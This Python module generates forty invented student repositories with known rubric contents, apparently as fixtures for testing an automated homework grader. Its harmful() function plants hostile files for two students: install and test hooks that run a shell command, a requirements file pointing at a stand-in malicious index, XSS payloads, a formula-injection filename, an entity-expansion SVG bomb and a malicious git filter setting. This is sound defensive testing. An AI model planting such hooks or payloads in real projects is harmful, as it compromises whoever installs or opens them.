"""A class of forty invented students whose repositories are built by code, so that what each holds is
known.

Each student writes in one language and one style, lays the work out in one way, and leaves things out;
`Handed` keeps which items of the rubric are there.  The phrases are written as students write, not copied
from the rubric's words.
"""

from __future__ import annotations

import base64
import io
import json
import random
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
from PIL import Image
from plagiarism import as_notebook, partial, program, renamed, reordered
from student_phrases import (
    ABSENT_FROM_FORM,
    CODE,
    COMMON,
    DRAWN,
    ITEMS,
    METRICS,
    PICTURES,
    SAYS,
    SIZES,
    VALUES,
)
from student_repositories import Commit, build

FOUND, MISSING, UNREADABLE, EXTERNAL = "found", "missing", "unreadable", "external"
NUMBERS = {"hw1": 1, "hw2": 2, "hw3": 3, "hw4": 4, "lab8": 8}
BRANCHES = [
    "homework_{}",
    "homework{}",
    "hw{}",
    "HW-{}",
    "Homework_{}",
    "hw_{}",
    "homework-{}",
    "dz{}",
    "ДЗ_{}",
    "homewrok_{}",
]
FOLDERS = ["hw_{}/", "HW{}/", "homework_{}/", "Homework {}/", "HW_{}.Solution/", "src/hw{}/"]


@dataclass
class Handed:
    """One work of one student, and the truth about it."""

    work: str
    place: str
    truth: dict[str, str]


@dataclass
class Invented:
    """One student."""

    id: str
    last_name: str
    first_name: str
    kind: str
    folder: Path
    works: dict[str, Handed] = field(default_factory=dict)
    named: bool = True
    on_time: bool = True
    copied_from: str | None = None


def picture(seed: int, kind: str = "output", size: int = 48) -> bytes:
    """A PNG (or GIF): smooth blobs for what a network drew, a line on white for a plot."""
    draw = np.random.default_rng(seed)
    if kind == "plot":
        pixels = np.full((size * 2, size * 3, 3), 255, np.uint8)
        pixels[4:-4, 6] = pixels[-6, 4:-4] = 0
        heights = np.clip(
            size + 20 * np.sin(np.arange(8, size * 3 - 8) / draw.uniform(4, 20)), 6, size * 2 - 8
        )
        pixels[heights.astype(int), np.arange(8, size * 3 - 8)] = draw.integers(0, 200, 3)
        image = Image.fromarray(pixels)
    else:
        image = Image.fromarray(draw.integers(0, 255, (6, 6, 3), dtype=np.uint8)).resize(
            (size, size), Image.BICUBIC
        )
    file = io.BytesIO()
    if kind == "gif":
        other = Image.fromarray(draw.integers(0, 255, (6, 6, 3), dtype=np.uint8)).resize(
            (size, size), Image.BICUBIC
        )
        image.save(file, "GIF", save_all=True, append_images=[other], duration=50, loop=0)
    else:
        image.save(file, "PNG")
    return file.getvalue()


# ---- what students write, by item: (heading, text) in two languages, a few ways each


class Writer:
    """Writes one work in one student's manner."""

    def __init__(self, seed: int, language: str, typos: bool, manner: str):
        self.random = random.Random(seed)
        self.seed, self.language, self.typos = seed, language, typos
        self.manner = manner
        self.files: dict[str, bytes] = {}
        self.lines: list[str] = []
        self.cells: list[dict] = []
        self.pictures = 0

    def write(self, work: str, present: set[str]) -> dict[str, bytes]:
        """The files of a submission that shows the items of `present`."""
        self.lines.append(f"# {'Домашняя работа' if self.language == 'ru' else 'Homework'} {NUMBERS[work]}\n")
        for item in ("task", "dataset", *ITEMS[work]):
            self.item(item, present)
        for item in ("loss_curve", "metric_curve", "metric_values", "output_images", "conclusions"):
            self.item(item, present)
        self.code([item for item in (*ITEMS[work], "logging") if item in CODE and item in present])
        if "files" in present and not self.cells and not any(name.endswith(".py") for name in self.files):
            self.files["main.py"] = b"import torch\n\nprint(torch.__version__)\n"
        if "requirements" in present:
            self.requirements()
        if self.cells:
            self.files["work.ipynb"] = json.dumps(
                {"cells": self.cells, "nbformat": 4, "nbformat_minor": 5, "metadata": {}}
            ).encode()
        if "readme" in present and self.manner != "notebook":
            name = self.random.choice(["README.md", "readme.md", "README.MD", "Readme.md"])
            self.files[name] = "\n".join(self.lines).encode()
        return self.files

    def item(self, item: str, present: set[str]) -> None:
        if item not in present:
            return
        if item in SAYS:
            heading, text = self.random.choice(SAYS[item][self.language])
            if item == "dataset":
                size = self.random.choice(SIZES[self.language]).format(
                    self.random.choice([202599, 60000, 1024, 350])
                )
                text = text.format(size if "dataset_size" in present else "")
            self.say(heading, text)
        elif item in VALUES:
            text = self.random.choice(VALUES[item][self.language])
            self.say("", f"{text.format(self.value())}.")
        elif item == "fid_by_class":
            rows = "\n".join(f"| {digit} | {self.value()} |" for digit in range(10))
            self.say("", f"| {'класс' if self.language == 'ru' else 'class'} | FID |\n|---|---|\n{rows}")
        elif item == "output_images":
            self.say({"ru": "Сгенерированные лица", "en": "Generated faces"}[self.language], "")
            for number in range(6):
                self.show("", f"out_{number}", "output")
        elif item in PICTURES:
            caption, name = self.random.choice(PICTURES[item][self.language])
            kind = "gif" if item == "gif" else "plot" if item in DRAWN else "output"
            if caption.startswith("text:"):
                self.say("", caption.removeprefix("text:"))
                caption = ""
            self.show(caption, name, kind)

    def value(self) -> str:
        number = f"{self.random.uniform(0.5, 0.99):.3f}"
        return number.replace(".", ",") if self.language == "ru" and self.random.random() < 0.5 else number

    def say(self, heading: str, text: str) -> None:
        if heading:
            heading = self.slip(heading)
            style = self.random.choice(["## {}", "### {}", "#### {}", "**{}**", "<h2>{}</h2>"])
            self.put(f"{style.format(heading)}\n")
        if text:
            self.put(f"{text}\n")

    def put(self, text: str) -> None:
        if self.manner == "notebook":
            self.cells.append(
                {"cell_type": "markdown", "metadata": {}, "source": text.splitlines(keepends=True)}
            )
        else:
            self.lines.append(text)

    def slip(self, heading: str) -> str:
        """Two letters swapped, in a word long enough to be known all the same."""
        if not self.typos or len(heading.split(maxsplit=1)[0]) < 8:
            return heading
        return heading[:4] + heading[5] + heading[4] + heading[6:]

    def show(self, caption: str, name: str, kind: str) -> None:
        """A picture in one of the ways people put them into a page."""
        self.pictures += 1
        content = picture(1000 * self.seed + self.pictures, kind)
        ending = "gif" if kind == "gif" else "png"
        if self.manner == "notebook" and kind != "gif" and not caption.strip():
            label = {
                "plot": f"plt.plot(values)\nplt.title('{name}')\nplt.show()",
                "output": f"plt.imshow(image)\nplt.title('{name}')\nplt.show()",
            }[kind]
            output = {
                "output_type": "display_data",
                "data": {"image/png": base64.b64encode(content).decode()},
            }
            self.cells.append(
                {
                    "cell_type": "code",
                    "metadata": {},
                    "source": label,
                    "outputs": [output],
                    "execution_count": 1,
                }
            )
            return
        way = self.random.choice(["plain", "folder", "space", "percent", "img", "parentheses"])
        path = {
            "plain": f"{name}.{ending}",
            "folder": f"images/{name}.{ending}",
            "img": f"images/{name}.{ending}",
            "space": f"my images/{name}.{ending}",
            "percent": f"my images/{name}.{ending}",
            "parentheses": f"images/{name} (1).{ending}",
        }[way]
        self.files[path] = content
        target = path.replace(" ", "%20") if way == "percent" else path
        text = (
            f'<img src="{target}" alt="{caption}" width=300>' if way == "img" else f"![{caption}]({target})"
        )
        self.put(f"{text}\n")

    def code(self, items: list[str]) -> None:
        text = "import torch\nfrom torch import nn\n\n\n" + "\n\n".join(CODE[item] for item in items)
        if not items:
            return
        if self.manner == "notebook":
            self.cells.append(
                {"cell_type": "code", "metadata": {}, "source": text, "outputs": [], "execution_count": 2}
            )
        else:
            self.files["model.py"] = text.encode()

    def requirements(self) -> None:
        way = self.random.choice(
            ["txt", "typo", "pyproject", "conda", "cell" if self.manner == "notebook" else "txt"]
        )
        if way == "txt":
            self.files["requirements.txt"] = b"torch==2.1.0\nnumpy==1.26.0\n"
        elif way == "typo":
            self.files["requarements.txt"] = b"torch==2.1.0\n"
        elif way == "pyproject":
            self.files["pyproject.toml"] = b'[project]\nname = "x"\ndependencies = ["torch==2.1.0"]\n'
        elif way == "conda":
            self.files["environment.yml"] = b"dependencies:\n  - python=3.10\n  - pip:\n    - torch==2.1.0\n"
        else:
            self.cells.insert(
                0,
                {
                    "cell_type": "code",
                    "metadata": {},
                    "source": "!pip install torch==2.1.0",
                    "outputs": [],
                    "execution_count": 1,
                },
            )


KINDS = ["good"] * 6 + ["late"] * 3 + ["missing"] * 10 + ["typos"] * 6 + ["notebook"] * 5 + ["folders"] * 4
KINDS += ["copied"] * 4 + ["hostile"] * 2
DISGUISES = [
    lambda text, other: {"training.py": renamed(text, 1).encode()},
    lambda text, other: {"my_training.py": reordered(renamed(text, 2), 2).encode()},
    lambda text, other: {"training.ipynb": as_notebook(text)},
    lambda text, other: {"training.py": partial(text, other).encode()},
]
"""How those who copied hide it."""
HARM = """
import os
open({marker!r}, "w").write("it was run")
os.system("touch {marker}")
"""
NAMES = [
    ("Иванов", "Иван"),
    ("Petrova", "Anna"),
    ("Сидоров", "Пётр"),
    ("Smirnova", "Olga"),
    ("Щукин", "Юрий"),
    ("Volkov", "Egor"),
]


def invent(root: Path) -> list[Invented]:
    """The forty, as bare repositories under `root`."""
    return [_student(root, index, kind) for index, kind in enumerate(KINDS)]


def own_code(index: int, kind: str) -> dict[str, bytes]:
    """What a student wrote besides the lines that the rubric looks for; of the first students, if copied."""
    if kind == "copied":
        place = index - KINDS.index("copied")
        return DISGUISES[place](program(place), program(index))
    if kind == "notebook":
        return {"training.ipynb": as_notebook(program(index))}
    return {"training.py": program(index).encode()}


def harmful(root: Path) -> dict[str, bytes]:
    """What a hostile student adds: code that leaves a mark where it is run, pages and names that attack."""
    harm = HARM.format(marker=str(root / "it-was-run"))
    bomb = b"<!DOCTYPE x [<!ENTITY a '" + b"x" * 1000 + b"'>]><svg>&a;</svg>"
    return {
        "conftest.py": harm.encode(),
        "setup.py": harm.encode(),
        "sitecustomize.py": harm.encode(),
        ".gitattributes": b"* filter=evil diff=evil\n",
        "requirements.txt": b"torch==2.1.0\n--index-url https://evil.example\nhttps://evil.example/x.whl\n",
        "attack.md": b"<script>alert(1)</script>\n![x](javascript:alert(2))\n" + b"a" * 300_000 + b"\n",
        "=cmd|' 'A1.py": b"x = 1\n",
        "name\nwith\u202elines.py": b"x = 1\n",
        "bomb.svg": bomb,
        "broken.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 50,
    }


def _student(root: Path, index: int, kind: str) -> Invented:
    draw = random.Random(index)
    language = "ru" if index % 2 else "en"
    last, first = NAMES[index % len(NAMES)]
    who = Invented(f"s{index:02d}", last, first, kind, root / f"s{index:02d}", on_time=kind != "late")
    if kind == "copied":
        who.copied_from = f"s{index - KINDS.index('copied'):02d}"
    works = draw.sample(list(NUMBERS), 2)
    who.named = kind not in ("missing",) or draw.random() < 0.5
    greeting = {
        "ru": "Студент: {}\n\nКурс по генеративным моделям.",
        "en": "Student: {}\n\nCourse on generative models.",
    }
    name = f"{last} {first}" if who.named else "?"
    commits = [Commit("main", {"README.md": greeting[language].format(name)}, date="2024-02-01")]
    for work in works:
        items = {*COMMON, *ITEMS[work], "logging"} - ABSENT_FROM_FORM.get(work, set())
        if kind == "missing":
            items -= set(draw.sample(sorted(items - {"readme", "files"}), 6))
        if "dataset" not in items:
            items -= {"dataset_size"}
        manner = "notebook" if kind == "notebook" else "page"
        writer = Writer(100 * index + NUMBERS[work], language, kind == "typos", manner)
        files = writer.write(work, items)
        if "files" in items:
            files |= own_code(index, kind)
        if kind == "hostile":
            files |= harmful(root)
        truth = {
            item: FOUND if item in items else MISSING
            for item in {*COMMON, *ITEMS[work]} - ABSENT_FROM_FORM.get(work, set())
        }
        if manner == "notebook":
            truth["readme"] = MISSING
        if METRICS & items and "metric_values" in truth:
            truth["metric_values"] = FOUND
        if not any(name.endswith((".py", ".ipynb")) for name in files):
            truth["files"] = MISSING
        commits.append(_place(who, work, files, draw, commits))
        who.works[work] = Handed(work, "", truth)
    build(who.folder, commits)
    return who


def _place(
    who: Invented, work: str, files: dict[str, bytes], draw: random.Random, commits: list[Commit]
) -> Commit:
    """The commit that hands a work in, on a branch or in a folder of main."""
    date = "2024-05-20" if who.kind == "late" else "2024-03-01"
    number = NUMBERS[work]
    if who.kind == "folders":
        folder = draw.choice(FOLDERS).format(number)
        return Commit("main", {folder + path: content for path, content in files.items()}, date=date)
    pattern = draw.choice(BRANCHES)
    if work == "lab8":
        pattern = draw.choice(["lab8", "lab_8", "Lab-8", "lab_08"])
    inside = draw.choice(["", "", "", f"hw{number}/"])
    start = draw.choice([None, "main"])
    if start == "main" and not inside and any(path.lower() == "readme.md" for path in files):
        files = {**files, **({"README.md": None} if "README.md" not in files else {})}
    return Commit(
        pattern.format(number),
        {inside + path if content is not None else path: content for path, content in files.items()},
        date=date,
        start=start,
    )
